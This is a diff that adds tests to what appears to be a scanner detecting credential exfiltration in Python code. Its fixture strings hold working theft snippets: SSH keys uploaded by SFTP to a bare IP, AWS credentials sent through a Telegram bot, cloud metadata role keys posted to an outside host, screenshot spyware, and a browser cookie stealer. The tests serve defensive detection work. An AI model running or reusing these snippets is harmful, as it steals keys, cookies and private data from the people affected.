@@ -582,3 +582,81 @@ def test_the_callers_source_sent_to_a_bare_ip_is_exfiltration() -> None:
         stage=Stage.RUNTIME,
     )
     assert "PV-EXF-COMBO" not in ids(run(R, notifier))
+
+
+def test_keys_sent_over_sftp_to_a_bare_ip_and_an_ssh_tool_reading_its_keys() -> None:
+    thief = py(
+        "import os, shutil, paramiko\n"
+        "arch = shutil.make_archive('/tmp/k', 'zip', os.path.join(os.path.expanduser('~'), '.ssh'))\n"
+        "c = paramiko.SSHClient()\n"
+        "c.connect('45.13.7.9', username='up', password='x')\n"
+        "c.open_sftp().put(arch, '/srv/drop/k.zip')\n"
+    )
+    assert severities(R, thief, "PV-EXF-COMBO") == [Severity.CRITICAL]
+    deploy = py(
+        "import os, paramiko\n"
+        "def push(host, path):\n"
+        "    key = paramiko.RSAKey.from_private_key_file(os.path.join(os.path.expanduser('~'), '.ssh'))\n"
+        "    c = paramiko.SSHClient()\n"
+        "    c.connect(host, username='deploy', pkey=key)\n"
+        "    c.open_sftp().put(path, '/srv/app/')\n",
+        stage=Stage.RUNTIME,
+    )
+    assert "PV-EXF-COMBO" not in ids(run(R, deploy))
+
+
+def test_a_bot_token_handed_to_a_telegram_library_is_a_channel() -> None:
+    thief = py(
+        "import os, glob, telebot\n"
+        "bot = telebot.TeleBot('6000000000:AAAbbbCCCdddEEEfffGGGhhhIIIjjjKKKlll')\n"
+        "for path in glob.glob(os.path.expanduser('~/.aws/credentials')):\n"
+        "    bot.send_document(123456789, open(path, 'rb'))\n"
+    )
+    assert severities(R, thief, "PV-EXF-COMBO") == [Severity.CRITICAL]
+    configured = py(
+        "import os, telebot\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
+        "def notify(chat, text):\n    bot.send_message(chat, text)\n",
+        stage=Stage.RUNTIME,
+    )
+    assert run(R, configured) == []
+
+
+def test_cloud_role_credentials_from_the_metadata_service_sent_to_a_bare_ip() -> None:
+    template = (
+        "import urllib.request\n"
+        "_M = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
+        "role = urllib.request.urlopen(_M).read().decode()\n"
+        "data = urllib.request.urlopen(_M + role).read()\n"
+        "{send}\n"
+    )
+    stolen = py(template.format(send="urllib.request.urlopen('http://45.13.7.9:8080/c', data=data)"))
+    assert severities(R, stolen, "PV-EXF-COMBO") == [Severity.CRITICAL]
+    # an SDK reads the role's keys to sign its own requests
+    sdk = py(template.format(send="session = sign(data)"), stage=Stage.RUNTIME)
+    assert "PV-EXF-COMBO" not in ids(run(R, sdk))
+
+
+def test_screenshots_and_browser_cookie_readers_sent_out() -> None:
+    spy = py(
+        "import io, threading, requests\nfrom PIL import ImageGrab\n"
+        "def _loop():\n"
+        "    buf = io.BytesIO()\n"
+        "    ImageGrab.grab().save(buf, format='PNG')\n"
+        "    requests.post('http://45.13.7.9/u', data=buf.getvalue())\n"
+        "threading.Thread(target=_loop, daemon=True).start()\n"
+    )
+    assert severities(R, spy, "PV-EXF-COMBO") == [Severity.HIGH]
+    cookies = py(
+        "import requests, browser_cookie3\n"
+        "jar = browser_cookie3.chrome(domain_name='roblox.com')\n"
+        "requests.post('https://collector.example.invalid/c', json={c.name: c.value for c in jar})\n"
+    )
+    assert severities(R, cookies, "PV-EXF-COMBO") == [Severity.CRITICAL]
+    # a test helper saving a screenshot next to a call of a named service, inside a function
+    helper = py(
+        "import pyautogui, requests\n"
+        "def capture(path):\n    pyautogui.screenshot(path)\n"
+        "def status():\n    return requests.get('https://status.example.com/api').json()\n",
+        stage=Stage.RUNTIME,
+    )
+    assert [f.severity for f in run(R, helper) if f.rule == "PV-EXF-COMBO"] in ([], [Severity.MEDIUM])
